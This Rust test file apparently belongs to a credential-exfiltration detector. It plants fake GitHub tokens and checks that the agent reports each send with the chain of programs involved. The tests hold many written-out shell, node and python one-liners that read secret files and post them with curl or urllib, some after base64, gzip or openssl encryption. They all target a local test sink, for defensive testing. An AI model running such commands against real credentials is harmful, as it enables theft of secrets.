//! What is passed on through pipes: seen where the secret's own bytes leave, lineage with the way where they do not.

use super::{WRITTEN, count, goes_to, sent};
use crate::{
    agent::Agent,
    command::{Done, act, sh},
    events::{Ask as _, Event, list, of_kind},
    machine::{Scratch, patience, turn, wait_for},
    plant,
    server::Sink,
};
use keytrail_model::LineageBasis;
use std::{
    fs,
    path::{Path, PathBuf},
};

/// A file with a token of GitHub, in a place that is watched or in one that nobody named.
fn key(scratch: &Scratch, place: &str) -> (plant::Planted, PathBuf) {
    let token = plant::github();
    let file = scratch.join(place);
    fs::create_dir_all(file.parent().unwrap()).unwrap();
    fs::write(&file, format!("{{\"GITHUB_TOKEN\":\"{}\"}}\n", token.value)).unwrap();
    (token, file)
}

/// Names of the programs on the way, and how it came to each.
fn way(event: &Event) -> Vec<(String, String)> {
    let path = &event.evidence.as_ref().unwrap().path;
    path.iter()
        .map(|step| {
            let program = step.executable.rsplit('/').next().unwrap_or("");
            (step.how.clone(), program.to_owned())
        })
        .collect()
}

/// The programs alone.
fn programs(event: &Event) -> Vec<String> {
    way(event).into_iter().map(|(_, program)| program).collect()
}

/// Runs a script with the key's file and the sink's address.
fn run(script: &str, file: &Path, sink: &Sink) -> Done {
    sh(script)
        .arg(file)
        .arg(format!("http://127.0.0.1:{}/in", sink.port))
        .run()
        .ok()
}

/// Fails unless one send is reported, and the secret was seen in it.
fn is_seen(agent: &Agent, done: &Done, by: &str, file: &Path, script: &str) {
    let sent = sent(agent, done.pid);
    count(&sent, 1, script);
    let text = format!("{script}\n{}", sent[0].brief());
    assert_eq!(sent[0].grade(), "observed", "{text}");
    assert!(sent[0].executable().ends_with(by), "{text}");
    assert_eq!(sent[0].path(), file.to_str().unwrap(), "{text}");
    let source = sent[0].source.as_ref().unwrap();
    assert!(!source.inherited_from.is_empty(), "{text}");
    let path = &sent[0].evidence.as_ref().unwrap().path;
    assert_eq!(path[0].how, "read", "{text}\n{path:?}");
    assert!(path.len() >= 2, "{text}\n{path:?}");
    assert_eq!(path.last().unwrap().pid, sent[0].pid(), "{text}\n{path:?}");
}

/// At once and with pauses of a second anywhere, as it is and in base64, by programs and by a shell's own commands; from
/// a file that is watched, and from one that nobody has named.
pub fn seen_at_the_end_of_a_pipeline() {
    let _turn = turn();
    let scratch = Scratch::new();
    let sink = Sink::http();
    let agent = Agent::start(&scratch);
    let scripts = [
        "cat \"$1\" | curl -s -d @- \"$2\"; :",
        "(sleep 1; cat \"$1\") | curl -s -d @- \"$2\"; :",
        "cat \"$1\" | (sleep 1; curl -s -d @- \"$2\"); :",
        "cat \"$1\" | (sleep 1; cat) | curl -s -d @- \"$2\"; :",
        "base64 -w 0 \"$1\" | curl -s -d @- \"$2\"; :",
        "(sleep 1; cat \"$1\"; sleep 1) | curl -s -d @- \"$2\"; :",
        "jq -c . \"$1\" | (sleep 1; jq -c .) | curl -s -d @- \"$2\"; :",
        "(sleep 1; x=$(cat \"$1\"); printf %s \"$x\") | curl -s -d @- \"$2\"; :",
        "x=$(cat \"$1\"); printf %s \"$x\" | curl -s -d @- \"$2\"; :",
        "cat \"$1\" | while read -r line; do echo \"$line\"; done | curl -s -d @- \"$2\"; :",
        // A shell's own command that has ended before the next begins, and one that goes on while it sends.
        "cat \"$1\" | while read -r x; do echo \"$x\"; done | ($COUNT; exec curl -s -d @- \"$2\"); :",
        "cat \"$1\" | while read -r x; do echo \"$x\"; $COUNT; done | curl -s -X POST -H Expect: -T - \"$2\"; :",
    ];
    for place in ["home/key.json", "elsewhere/key"] {
        let file = scratch.join(place);
        let done: Vec<_> = std::thread::scope(|scope| {
            let running: Vec<_> = (0..scripts.len())
                .map(|n| {
                    let (_, file) = key(&scratch, &format!("{}{n}.json", file.display()));
                    let count = "i=0; while [ $i -lt 300000 ]; do i=$((i+1)); done";
                    let (script, sink) = (scripts[n].replace("$COUNT", count), &sink);
                    scope.spawn(move || (run(&script, &file, sink), file))
                })
                .collect();
            running.into_iter().map(|r| r.join().unwrap()).collect()
        });
        agent.wait_idle();
        for ((done, file), script) in done.iter().zip(scripts) {
            is_seen(&agent, done, "/curl", file, script);
        }
    }
}

fn step(how: &str, program: &str) -> (String, String) {
    (how.to_owned(), program.to_owned())
}

/// Packed into a file by one program and sent by another: lineage, with the file on the way. A log that was there before, and a
/// file that nobody who holds anything wrote: nothing.
pub fn handed_on_in_a_file() {
    let _turn = turn();
    let scratch = Scratch::new();
    let sink = Sink::http();
    let agent = Agent::start(&scratch);
    let other = scratch.join("other");
    let scripts = [
        "$ENC -in \"$1\" -out $3/2; sleep 2; curl -s --data-binary @$3/2 \"$2\"; :",
        "$ENC -in \"$1\" -out $3/3.enc; mv $3/3.enc $3/3; curl -s -T $3/3 \"$2\"; :",
        "$ENC -in \"$1\" -out $3/4; $ENC -in $3/4 -out $3/4.enc; curl -s -T $3/4.enc \"$2\"; :",
    ];
    for (n, script) in scripts.into_iter().enumerate() {
        let (_, file) = key(&scratch, &format!("home/key{n}.json"));
        let dir = scratch.make(&format!("handed{n}"));
        let done = sh(script)
            .arg(&file)
            .arg(format!("http://127.0.0.1:{}/in", sink.port))
            .arg(&dir)
            .env("ENC", "openssl enc -aes-256-cbc -pbkdf2 -pass pass:x")
            .run()
            .ok();
        let event = agent.expect(script, done.pid, |e| {
            e.is("credential_sent") && e.in_tree(done.pid) && e.executable().ends_with("/curl")
        });
        assert_eq!(event.grade(), "lineage", "{}", event.brief());
        let evidence = event.evidence.as_ref().unwrap();
        assert_eq!(evidence.lineage_basis, LineageBasis::Passed.number());
        goes_to(&event, &["127.0.0.1"], sink.port);
        let way = way(&event);
        assert_eq!(way[0].0, "read", "{way:?}");
        assert_eq!(way.last().unwrap(), &step("file", "curl"), "{way:?}");
        assert_eq!(way.len(), [2, 2, 3][n], "{way:?}");
    }
    // A log that is appended to, and a file that somebody else packed.
    let (_, file) = key(&scratch, "home/key9.json");
    fs::write(&other, "what was in the log before\n".repeat(9)).unwrap();
    let log = sh("cat \"$1\" >/dev/null; wc -c <\"$1\" >>$3; curl -s -T $3 \"$2\"; :")
        .arg(&file)
        .arg(format!("http://127.0.0.1:{}/in", sink.port))
        .arg(&other)
        .run()
        .ok();
    let (poor, file) = (scratch.join("poor"), scratch.join("nothing"));
    fs::write(&file, "nothing of interest to anybody\n".repeat(9)).unwrap();
    let pack = sh("gzip -c \"$1\" >$3; curl -s -T $3 \"$2\"; :")
        .arg(&file)
        .arg(format!("http://127.0.0.1:{}/in", sink.port))
        .arg(&poor)
        .run()
        .ok();
    agent.wait_idle();
    for done in [log, pack] {
        let sent = sent(&agent, done.pid);
        assert!(sent.is_empty(), "{}", list(&sent));
    }
}

/// Somebody else keeps all processors busy as long as this lives.
fn load() -> Vec<crate::command::Background> {
    (0..4).map(|_| sh("while :; do :; done").spawn()).collect()
}

/// Packed or encrypted at the end of a pipeline and sent by the very next command: each time, with the whole way; beside others
/// who need all processors as well. From a file that is watched, and from one that nobody has named.
pub fn written_at_the_end_of_a_pipeline() {
    let _turn = turn();
    let scratch = Scratch::new();
    let sink = Sink::http();
    let agent = Agent::start(&scratch);
    let scripts = [
        (
            "tar c -C \"${1%/*}\" \"${1##*/}\" | $ENC > $3/x; curl -s -T $3/x \"$2\"; :",
            &["tar", "openssl", "curl"][..],
        ),
        (
            "cat \"$1\" | gzip -c > $3/x && curl -s --data-binary @$3/x \"$2\"; :",
            &["cat", "gzip", "curl"],
        ),
        (
            "$ENC < \"$1\" > $3/x && curl -s -T $3/x \"$2\"; :",
            &["openssl", "curl"],
        ),
        (
            "cat \"$1\" | gzip -c | $ENC | tee $3/x >/dev/null; curl -s -T $3/x \"$2\"; :",
            &["cat", "gzip", "openssl", "tee", "curl"],
        ),
    ];
    let mut missed = Vec::new();
    for (round, place) in (0..10).zip(["home", "elsewhere"].into_iter().cycle()) {
        let _load = (round >= 4).then(load);
        for (n, (script, programs)) in scripts.iter().enumerate() {
            let (_, file) = key(&scratch, &format!("{place}/key{round}-{n}.json"));
            let dir = scratch.make(&format!("end{round}-{n}"));
            let done = sh(script)
                .arg(&file)
                .arg(format!("http://127.0.0.1:{}/in", sink.port))
                .arg(&dir)
                .env("ENC", "openssl enc -aes-256-cbc -pbkdf2 -pass pass:x")
                .run()
                .ok();
            agent.wait_idle();
            let sent = sent(&agent, done.pid);
            let way = sent.first().map(way).unwrap_or_default();
            let names: Vec<&str> = way.iter().map(|(_, program)| program.as_str()).collect();
            if sent.len() != 1 || names != *programs || way.last().unwrap().0 != "file" {
                missed.push(format!(
                    "round {round} {place}: {script}\n{way:?}\n{}\n{}",
                    list(&sent),
                    list(&agent.tree(done.pid))
                ));
                continue;
            }
            let text = sent[0].brief();
            // What gzip packs is unpacked by who looks for it.
            let seen = programs.contains(&"gzip") && !programs.contains(&"openssl");
            let grade = if seen { "observed" } else { "lineage" };
            assert_eq!(sent[0].grade(), grade, "{text}");
            goes_to(&sent[0], &["127.0.0.1"], sink.port);
        }
    }
    assert!(
        missed.is_empty(),
        "{} missed\n{}",
        missed.len(),
        missed.join("\n\n")
    );
}

/// What node gives to the standard input of a child goes by a pair of sockets: seen where it leaves as it is, and at the end of
/// a way where it does not.
pub fn given_to_a_child() {
    let _turn = turn();
    let scratch = Scratch::new();
    let sink = Sink::http();
    let agent = Agent::start(&scratch);
    let (_, file) = key(&scratch, "home/fed.json");
    // Begun before the key is read, so that nothing comes by the fork.
    let script = "const { spawn } = require('child_process');
const curl = spawn('curl', ['-s', '-d', '@-', process.argv[2]], { stdio: ['pipe', 'ignore', 'ignore'] });
setTimeout(() => curl.stdin.end(require('fs').readFileSync(process.argv[1])), 700);";
    let fed = act("node")
        .args(["-e", script])
        .arg(&file)
        .arg(format!("http://127.0.0.1:{}/in", sink.port))
        .limit(30)
        .run()
        .ok();
    agent.wait_idle();
    let seen = sent(&agent, fed.pid);
    let text = list(&agent.tree(fed.pid));
    let curl: Vec<&Event> = seen
        .iter()
        .filter(|e| e.executable().ends_with("/curl"))
        .collect();
    assert_eq!(curl.len(), 1, "{text}");
    assert_eq!(curl[0].grade(), "observed", "{text}");
    assert_eq!(
        way(curl[0]),
        [step("read", "node"), step("socket", "curl")],
        "{text}"
    );

    // Sent by somebody who has nothing from node.
    let (_, file) = key(&scratch, "home/packed.json");
    let script = "const { spawn } = require('child_process');
const enc = ['enc', '-aes-256-cbc', '-pbkdf2', '-pass', 'pass:x', '-out', process.argv[2]];
const openssl = spawn('openssl', enc, { stdio: ['pipe', 'ignore', 'ignore'] });
setTimeout(() => openssl.stdin.end(require('fs').readFileSync(process.argv[1])), 700);";
    let done = sh("node -e \"$4\" \"$1\" \"$3\"; curl -s -T \"$3\" \"$2\"; :")
        .arg(&file)
        .arg(format!("http://127.0.0.1:{}/in", sink.port))
        .arg(scratch.join("packed"))
        .arg(script)
        .limit(30)
        .run()
        .ok();
    let event = agent.expect("what was packed", done.pid, |e| {
        e.is("credential_sent") && e.in_tree(done.pid) && e.executable().ends_with("/curl")
    });
    assert_eq!(event.grade(), "lineage", "{}", event.brief());
    let expected = [
        step("read", "node"),
        step("socket", "openssl"),
        step("file", "curl"),
    ];
    assert_eq!(way(&event), expected, "{}", event.brief());
}

/// git's daemon that keeps credentials for a while: reported by one program over a socket with a name, and asked by another.
pub fn kept_by_a_daemon() {
    let _turn = turn();
    let scratch = Scratch::new();
    let sink = Sink::http();
    let agent = Agent::start(&scratch);
    let (_, file) = key(&scratch, "home/key.json");
    let socket = scratch.make("cache").join("socket");
    fs::set_permissions(
        socket.parent().unwrap(),
        std::os::unix::fs::PermissionsExt::from_mode(0o700),
    )
    .unwrap();
    let git = format!(
        "git -c credential.helper='cache --timeout=60 --socket={}'",
        socket.display()
    );
    let keep = format!(
        "(printf 'protocol=https\\nhost=git.test\\nusername=ada\\npassword='; sed 's/.*:\"//; s/\".*//' \"$1\") | \
         {git} credential approve; :"
    );
    let kept = sh(&keep).arg(&file).run().ok();
    // The sender is gone by now, and nothing but the daemon has it.
    agent.wait_idle();
    let ask = format!(
        "printf 'protocol=https\\nhost=git.test\\n\\n' | {git} credential fill | curl -s -d @- \"$1\"; :"
    );
    let asked = sh(&ask)
        .arg(format!("http://127.0.0.1:{}/in", sink.port))
        .run()
        .ok();
    agent.wait_idle();
    let end = sh(&format!(
        "{git} credential-cache --socket={} exit; :",
        socket.display()
    ))
    .run();
    let sent = sent(&agent, asked.pid);
    let text = format!(
        "{}\n--\n{}\n{}",
        list(&agent.tree(kept.pid)),
        list(&agent.tree(asked.pid)),
        end.stderr_text()
    );
    let curl: Vec<&Event> = sent
        .iter()
        .filter(|e| e.executable().ends_with("/curl"))
        .collect();
    assert_eq!(curl.len(), 1, "{text}");
    assert_eq!(curl[0].grade(), "observed", "{text}");
    let way = way(curl[0]);
    let sockets = way.iter().filter(|(how, _)| how == "socket").count();
    assert_eq!((way[0].0.as_str(), sockets), ("read", 2), "{way:?}\n{text}");
    assert_eq!(curl[0].path(), file.to_str().unwrap(), "{text}");
    goes_to(curl[0], &["127.0.0.1"], sink.port);
}

/// What a child process of node says to it, over a pair of sockets, and node sends.
pub fn said_to_a_parent() {
    let _turn = turn();
    let scratch = Scratch::new();
    let sink = Sink::http();
    let agent = Agent::start(&scratch);
    let (_, file) = key(&scratch, "home/key.json");
    let script = "const { execFile } = require('child_process');
const http = require('http');
const enc = ['enc', '-aes-256-cbc', '-pbkdf2', '-pass', 'pass:x', '-in', process.argv[1]];
execFile('openssl', enc, { encoding: 'buffer' }, (error, out) => {
    setTimeout(() => {
        const request = http.request(process.argv[2], { method: 'POST' }, (r) => r.resume());
        request.end(out);
    }, 500);
});";
    let done = act("node")
        .args(["-e", script])
        .arg(&file)
        .arg(format!("http://127.0.0.1:{}/in", sink.port))
        .limit(30)
        .run()
        .ok();
    let event = agent.expect("what node sent", done.pid, |e| {
        e.is("credential_sent") && e.pid() == done.pid && !WRITTEN.contains(&e.channel())
    });
    assert_eq!(event.grade(), "lineage", "{}", event.brief());
    goes_to(&event, &["127.0.0.1"], sink.port);
    assert_eq!(
        way(&event),
        [step("read", "openssl"), step("socket", "node")]
    );
}

/// What is packed and encrypted on its way is lineage, with all who had it in hand.
pub fn encrypted_on_its_way() {
    let _turn = turn();
    let scratch = Scratch::new();
    let sink = Sink::http();
    let agent = Agent::start(&scratch);
    let (token, file) = key(&scratch, "home/key.json");
    let script = "tar cz -C \"${1%/*}\" key.json | (sleep 1; openssl enc -aes-256-cbc -pbkdf2 -pass file:/proc/version) | \
        curl -sm 60 -T - \"$2\"; :";
    let done = run(script, &file, &sink);
    agent.wait_idle();
    let sent = sent(&agent, done.pid);
    count(&sent, 1, "sends");
    let text = sent[0].brief();
    assert!(!sink.has(&token.value));
    assert_eq!(sent[0].grade(), "lineage", "{text}");
    assert_eq!(
        sent[0].evidence.as_ref().unwrap().lineage_basis,
        LineageBasis::Passed.number(),
        "{text}"
    );
    let mut way = way(&sent[0]);
    // Some builds of tar leave the compression to a child.
    way.retain(|step| *step != self::step("pipe", "gzip"));
    let expected = [("read", "tar"), ("pipe", "openssl"), ("pipe", "curl")];
    assert_eq!(
        way,
        expected.map(|(how, program)| self::step(how, program)),
        "{text}"
    );
    goes_to(&sent[0], &["127.0.0.1"], sink.port);
}

/// Python starts the client first and reads the key later; and it takes what a child of it has read.
pub fn fed_and_taken_by_python() {
    let _turn = turn();
    let scratch = Scratch::new();
    let sink = Sink::http();
    let agent = Agent::start(&scratch);
    let url = format!("http://127.0.0.1:{}/in", sink.port);
    let python = |script: &str, file: &Path| {
        let python = act("python3").args(["-c", script]);
        python.arg(file).arg(&url).run().ok()
    };
    let (_, file) = key(&scratch, "home/fed.json");
    let script = "import subprocess, sys, time
curl = subprocess.Popen(['curl', '-s', '-d', '@-', sys.argv[2]], stdin=subprocess.PIPE)
time.sleep(1)
curl.stdin.write(open(sys.argv[1], 'rb').read())
time.sleep(1)
curl.communicate()";
    let fed = python(script, &file);
    let (_, other) = key(&scratch, "home/taken.json");
    let script = "import subprocess, sys, time, urllib.request
loot = subprocess.check_output(['cat', sys.argv[1]])
time.sleep(1)
urllib.request.urlopen(sys.argv[2], loot)";
    let taken = python(script, &other);
    agent.wait_idle();
    is_seen(&agent, &fed, "/curl", &file, "fed");
    let by = sent(&agent, taken.pid);
    let path = by.first().map(programs).unwrap_or_default();
    assert_eq!(path.len(), 2, "{path:?}\n{}", list(&by));
    assert_eq!(by[0].pid(), taken.pid, "{}", list(&by));
    assert_eq!(
        (by[0].grade(), path[0].as_str()),
        ("observed", "cat"),
        "{}",
        list(&by)
    );
}

/// git asks its helper, which reads the file; git sends what it was told.
pub fn a_helper_of_git() {
    let _turn = turn();
    let scratch = Scratch::new();
    let server = "import http.server, sys
class Asks(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        known = 'Authorization' in self.headers
        self.send_response(404 if known else 401)
        self.send_header('WWW-Authenticate', 'Basic realm=\"git\"')
        self.send_header('Content-Length', '0')
        self.end_headers()
server = http.server.HTTPServer(('127.0.0.1', 0), Asks)
open(sys.argv[1], 'w').write(str(server.server_port))
server.serve_forever()";
    let reported = scratch.join("port");
    let _server = act("python3").args(["-c", server]).arg(&reported).spawn();
    let port: u16 = wait_for("the server", patience(20), || {
        fs::read_to_string(&reported).ok()?.parse().ok()
    });
    let agent = Agent::start(&scratch);
    let token = plant::github();
    let store = scratch.make("home").join(".git-credentials");
    fs::write(
        &store,
        format!("http://bot:{}@127.0.0.1%3a{port}\n", token.value),
    )
    .unwrap();
    let git = act("git")
        .arg("-c")
        .arg(format!(
            "credential.helper=store --file={}",
            store.display()
        ))
        .arg("ls-remote")
        .arg(format!("http://127.0.0.1:{port}/shop/orders.git"))
        .env("GIT_TERMINAL_PROMPT", "0")
        .run();
    agent.wait_idle();
    let sent = sent(&agent, git.pid);
    let seen: Vec<&Event> = sent.iter().filter(|e| e.grade() == "observed").collect();
    assert!(!seen.is_empty(), "{}", list(&agent.tree(git.pid)));
    let text = seen[0].brief();
    assert!(seen[0].executable().contains("git-remote-http"), "{text}");
    assert_eq!(seen[0].path(), store.to_str().unwrap(), "{text}");
    goes_to(seen[0], &["127.0.0.1"], port);
}

/// What holds no secret goes through pipes without a word, and so does what commands of a holder write that only have
/// its environment.
pub fn nothing_of_a_holder_in_it() {
    let _turn = turn();
    let scratch = Scratch::new();
    let sink = Sink::http();
    let agent = Agent::start(&scratch);
    let public = scratch.join("public.txt");
    fs::write(&public, "nothing of interest to anybody at all\n").unwrap();
    let cat = run(
        "cat \"$1\" | (sleep 1; cat) | curl -s -d @- \"$2\"; :",
        &public,
        &sink,
    );
    let ls = sh("ls / | env -u GITHUB_TOKEN curl -s -d @- \"$1\"; :")
        .arg(format!("http://127.0.0.1:{}/in", sink.port))
        .env("GITHUB_TOKEN", plant::github().value)
        .run()
        .ok();
    // A pipeline beside that of a holder, of the same shell.
    let (_, file) = key(&scratch, "home/key.json");
    let beside = run(
        "cat \"$1\" | cat >/dev/null; ls / | curl -s -d @- \"$2\"; :",
        &file,
        &sink,
    );
    assert!(sink.has("nothing of interest"));
    agent.wait_idle();
    for (done, reads) in [(&cat, 0), (&ls, 0), (&beside, 1)] {
        let events = agent.tree(done.pid);
        count(&sent(&agent, done.pid), 0, "sends");
        count(&of_kind(&events, "credential_read"), reads, "reads");
    }
}
